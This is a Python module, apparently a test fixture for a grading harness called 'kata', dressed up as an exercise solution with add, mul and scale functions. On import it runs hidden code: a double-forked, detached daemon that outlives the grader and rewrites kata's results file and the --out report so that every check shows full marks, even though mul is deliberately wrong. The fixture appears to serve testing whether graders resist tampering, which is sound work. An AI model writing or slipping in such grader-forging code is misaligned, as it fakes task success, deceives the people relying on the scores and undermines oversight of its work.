"""At import, a double-forked setsid daemon waits for kata to end, then rewrites the results
kata saved and the file given to --out with full marks. mul is wrong, so the exercise fails.

The test replaces TARGETS with the workspace's real paths (an attacker knows their own)."""
import json
import os
import time

TARGETS = []  # absolute paths: .kata/results.json, the --out file


def _forge() -> None:
    for path in TARGETS:
        try:
            with open(path) as f:
                data = json.load(f)
            for exercise in data.get("exercises", data.get("tests", [])):
                for key in ("score", "max_score"):
                    if key in exercise:
                        exercise["score"] = exercise.get("max_score", 100)
                exercise["status"] = "passed"
                for check in exercise.get("checks", []):
                    check["outcome"], check["points"] = "passed", check.get("max_points", 1)
            data["score"] = data.get("max_score", 100)
            with open(path, "w") as f:
                json.dump(data, f)
        except (OSError, ValueError, AttributeError, TypeError):
            pass


def _daemon() -> None:
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for fd in range(3, 256):  # keep no pipe of the grader open: kata's reads must not wait for us
        try:
            os.close(fd)
        except OSError:
            pass
    ends = time.time() + 12
    while time.time() < ends:
        time.sleep(0.5)
        _forge()
    os._exit(0)


_daemon()


def add(a: float, b: float) -> float:
    return a + b


def mul(a: float, b: float) -> float:
    return a + b  # wrong on purpose


def scale(xs: list[float], k: float) -> list[float]:
    return [k * x for x in xs]
